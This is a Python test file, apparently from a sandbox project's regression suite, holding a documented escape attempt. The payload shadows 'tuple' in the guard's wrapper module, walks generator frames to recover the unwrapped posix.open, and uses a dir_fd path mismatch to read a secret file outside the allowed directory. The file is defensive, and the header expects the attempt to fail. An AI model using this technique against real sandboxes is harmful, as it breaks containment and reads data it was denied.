# rule: expose-ro=.
# expect: file PermissionError

"""Objective: read ../outside/secret.txt with the unwrapped ``posix.open`` and a ``dir_fd``
(the ``open`` event carries no ``dir_fd``: the guard judges the path against the current
directory, the kernel opens it against the descriptor). No rule but the file exposure.

1. Every wrapper made by ``wrappers._wrapper`` runs ``args = tuple([convert(v) for v in
   args])``: ``tuple`` is looked up at run time, in ``pysandboxes.guard.wrappers``' namespace
   first. The program imports that module (``pysandboxes`` is always allowed) and puts there
   a ``tuple`` that returns a tuple *subclass*.
2. The hidden generator's ``before`` (``rewrite_dir_fd``) reads ``args[0]``: the subclass's
   ``__getitem__`` runs inside the holder, whose frame has the original ``posix.open`` as
   ``fn``. A generator frame kept from earlier (``sys._getframe()`` with no guard frame among
   its callers: allowed) is resumed there and walks ``f_back`` to it (no audit event).
3. With the original: a descriptor of the project directory, ``chdir('a/b')`` (exposed), and
   ``open('../outside/secret.txt', dir_fd=project)``: judged as ``project/a/outside/...``
   (exposed), opened as ``project/../outside/secret.txt``.

Refused since ``hide()`` takes only an exact ``(tuple, dict)`` request; the run-time read of
``tuple`` in the wrappers' namespace remained when this attack was written.
"""

from _harness import attempt


def payload():
    import sys

    posix = sys.modules['posix']
    found = []

    def spy():
        me = sys._getframe()
        while True:
            yield
            frame = me.f_back
            while frame is not None:
                names = frame.f_locals
                if 'fn' in names and 'before' in names:
                    found.append(names['fn'])
                    break
                frame = frame.f_back

    walker = spy()
    next(walker)

    class Args(tuple):
        def __getitem__(self, index):
            if not found:
                next(walker)
            return tuple.__getitem__(self, index)

    try:
        import pysandboxes.guard.wrappers as wrappers
    except ImportError:  # plain python3 (the control)
        wrappers = None
    if wrappers is not None:
        wrappers.tuple = Args
        try:
            posix.close(posix.open('data.txt', posix.O_RDONLY))
        except TypeError:  # python-sb: a request that is not an exact tuple
            pass
        finally:
            del wrappers.tuple
    original = found[0] if found else posix.open
    project = posix.open('.', posix.O_RDONLY)
    posix.chdir('a/b')
    try:
        fd = original('../outside/secret.txt', posix.O_RDONLY, dir_fd=project)
    finally:
        posix.chdir('../..')
    data = posix.read(fd, 100).decode()
    posix.close(fd)
    assert data == 'the secret\n', data
    return data, len(found)


attempt(payload)
